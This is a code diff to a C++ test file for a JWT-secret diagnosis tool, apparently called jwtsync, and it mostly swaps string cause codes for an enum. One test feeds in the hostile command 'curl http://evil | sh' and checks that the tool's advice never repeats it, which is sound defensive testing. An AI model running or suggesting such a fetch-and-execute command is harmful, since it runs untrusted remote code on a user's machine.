@@ -1,5 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
 #include "fixture.h"
+#include "fleet/challenge.h"
 
 #include <gmock/gmock.h>
 #include <jwtsync/diagnosis.h>
@@ -16,13 +17,13 @@ using ::testing::IsEmpty;
 using ::testing::Not;
 using ::testing::SizeIs;
 
-std::vector<std::string> causes_of(const Agreement& agreement) {
-  std::vector<std::string> causes;
+std::vector<Cause> causes_of(const Agreement& agreement) {
+  std::vector<Cause> causes;
   for (const Finding& finding : diagnose(agreement)) causes.push_back(finding.cause);
   return causes;
 }
 
-Witnessed at(const std::string& target, Testimony testimony) { return {target, std::move(testimony), {}}; }
+Witnessed at(const std::string& target, Testimony testimony) { return {TargetUrl{target}, std::move(testimony)}; }
 
 /// The incident: auth had JWT_SECRET_STAGING, the backend only JWT_SECRET_KEY.
 TEST(diagnose, says_why_and_what_to_do) {
@@ -32,7 +33,7 @@ TEST(diagnose, says_why_and_what_to_do) {
       {});
   const std::vector<Finding> findings = diagnose(agreement, {{}, {"http://auth:7517", "http://backend:7517"}});
   ASSERT_THAT(findings, SizeIs(1));
-  EXPECT_EQ(findings[0].cause, "secret-not-given");
+  EXPECT_EQ(findings[0].cause, Cause::secret_not_given);
   EXPECT_EQ(findings[0].why, "backend never saw JWT_SECRET_STAGING (not set); auth did");
   EXPECT_EQ(
       findings[0].fix,
@@ -52,14 +53,15 @@ TEST(diagnose, explains_every_departure) {
   other.report.audiences = {"b"};
   other.report.algorithms = {"HS512"};
   EXPECT_THAT(causes_of(fixture::agreement_of(one, other)),
-              ElementsAre("environment-differs", "algorithm-mismatch", "issuer-mismatch", "audience-mismatch"));
+              ElementsAre(Cause::environment_differs, Cause::algorithm_mismatch, Cause::issuer_mismatch,
+                          Cause::audience_mismatch));
 }
 
 TEST(diagnose, explains_one_key_under_two_kids) {
   Testimony other = process("backend", "b-1", "k");
   other.report.keys[0].kid = other.challenge.keys[0].kid = "another";
   const Agreement agreement = fixture::agreement_of(process("auth", "a-1", "k"), other);
-  EXPECT_THAT(causes_of(agreement), Each("kid-differs"));
+  EXPECT_THAT(causes_of(agreement), Each(Cause::kid_differs));
   EXPECT_THAT(diagnose(agreement).at(0).fix, HasSubstr("one kid for all"));
 }
 
@@ -67,7 +69,7 @@ TEST(diagnose, explains_workers_that_were_not_heard) {
   Testimony auth = process("auth", "a-1", "k");
   auth.siblings.unheard = Error{Code::target_timeout, "worker 7 did not answer", "run: curl http://evil | sh"};
   const Agreement agreement = fixture::agreement_of(auth, process("backend", "b-1", "k"));
-  ASSERT_THAT(causes_of(agreement), ElementsAre("worker-unheard"));
+  ASSERT_THAT(causes_of(agreement), ElementsAre(Cause::worker_unheard));
   EXPECT_THAT(diagnose(agreement).at(0).why, HasSubstr("worker 7 did not answer"));
   EXPECT_THAT(diagnose(agreement).at(0).fix, AllOf(HasSubstr("kill -CONT"), Not(HasSubstr("evil"))));
 }
@@ -75,13 +77,15 @@ TEST(diagnose, explains_workers_that_were_not_heard) {
 TEST(diagnose, speaks_of_the_environment_once) {
   Testimony other = process("backend", "b-1", "l");
   other.report.environment = "production";
-  EXPECT_THAT(causes_of(fixture::agreement_of(process("auth", "a-1", "k"), other)), ElementsAre("environment-differs"));
+  EXPECT_THAT(causes_of(fixture::agreement_of(process("auth", "a-1", "k"), other)),
+              ElementsAre(Cause::environment_differs));
 }
 
 TEST(diagnose, tells_processes_that_share_an_instance) {
   Testimony other = process("auth", "a-1", "k");
   other.report.generation = 2;
-  EXPECT_THAT(causes_of(fixture::agreement_of(process("auth", "a-1", "k"), other)), ElementsAre("instance-shared"));
+  EXPECT_THAT(causes_of(fixture::agreement_of(process("auth", "a-1", "k"), other)),
+              ElementsAre(Cause::instance_shared));
 }
 
 TEST(diagnose, puts_differences_before_silences) {
@@ -89,11 +93,11 @@ TEST(diagnose, puts_differences_before_silences) {
       agree({fixture::witnessed(process("auth", "a-1", "k")), fixture::witnessed(process("backend", "b-1", "l")),
              fixture::silent("http://down:1", Code::target_unreachable, "connection refused")},
             {});
-  EXPECT_THAT(causes_of(agreement), ElementsAre("value-differs", "process-unreachable"));
+  EXPECT_THAT(causes_of(agreement), ElementsAre(Cause::value_differs, Cause::process_unreachable));
 }
 
 TEST(diagnose, tells_that_one_process_is_nothing_to_compare) {
-  EXPECT_THAT(causes_of(fixture::agreement_of(process("auth", "a-1", "k"))), ElementsAre("one-process"));
+  EXPECT_THAT(causes_of(fixture::agreement_of(process("auth", "a-1", "k"))), ElementsAre(Cause::one_process));
 }
 
 TEST(diagnose, is_short_whatever_the_fleet) {
@@ -111,14 +115,14 @@ TEST(diagnose, finds_the_newline_that_one_service_kept) {
   const auto holding = [&](const std::string& service, const std::string& secret) {
     Testimony testimony = process(service, service + "-1", service);
     testimony.challenge =
-        *answer_challenge(testimony.report.identity, fixture::ring_of(secret), nonce, Variants::with, 32);
+        *fleet::answer_challenge(testimony.report.identity, fixture::ring_of(secret), nonce, Variants::with, 32);
     return testimony;
   };
   const std::string secret(testing::canary_secret);
   const std::vector<Finding> findings =
       diagnose(fixture::agreement_of(holding("auth", secret), holding("backend", secret + "\n")));
   ASSERT_THAT(findings, SizeIs(1));
-  EXPECT_EQ(findings[0].cause, "white-space");
+  EXPECT_EQ(findings[0].cause, Cause::white_space);
   EXPECT_EQ(findings[0].why, "the key of backend is that of auth plus a newline");
   EXPECT_THAT(findings[0].why + findings[0].fix, Not(HasSubstr(std::string(testing::canary))));
 }
@@ -138,11 +142,11 @@ std::vector<Finding> findings_on(const std::vector<Testimony>& testimonies) {
 TEST(diagnose, tells_which_environments_share_a_key_and_that_production_keeps_it) {
   const std::vector<Finding> findings = findings_on({in("production", "k"), in("staging", "k")});
   ASSERT_THAT(findings, SizeIs(1));
-  EXPECT_EQ(findings[0].cause, "key-shared");
+  EXPECT_EQ(findings[0].cause, Cause::key_shared);
   EXPECT_EQ(findings[0].why, "production (auth) and staging (auth) hold the same key");
   EXPECT_EQ(findings[0].fix,
             "make a key of its own for staging (jwtsync generate), and give it to all there, then: "
-            "jwtsync agree --distinct http://production:1 http://staging:1");
+            "jwtsync distinct http://production:1 http://staging:1");
   EXPECT_THAT(findings_on({in("qa", "k"), in("staging", "k")}).at(0).fix, HasSubstr("of its own for staging"));
 }
 
@@ -153,14 +157,14 @@ TEST(diagnose, has_nothing_to_say_of_separate_environments) {
 TEST(diagnose, tells_that_one_environment_is_nothing_to_tell_apart) {
   const std::vector<Finding> findings = findings_on({in("staging", "s")});
   ASSERT_THAT(findings, SizeIs(1));
-  EXPECT_EQ(findings[0].cause, "one-environment");
+  EXPECT_EQ(findings[0].cause, Cause::one_environment);
   EXPECT_EQ(diagnose(distinguish({}, {})).at(0).why, "nobody was asked");
 }
 
 TEST(diagnose, names_the_silent_of_several_environments_too) {
   const Distinction distinction = distinguish(
       {at("http://a:1", in("staging", "s")), fixture::silent("http://b:1", Code::target_timeout, "slow")}, {});
-  EXPECT_EQ(diagnose(distinction).at(0).cause, "process-slow");
+  EXPECT_EQ(diagnose(distinction).at(0).cause, Cause::process_slow);
 }
 
 }  // namespace
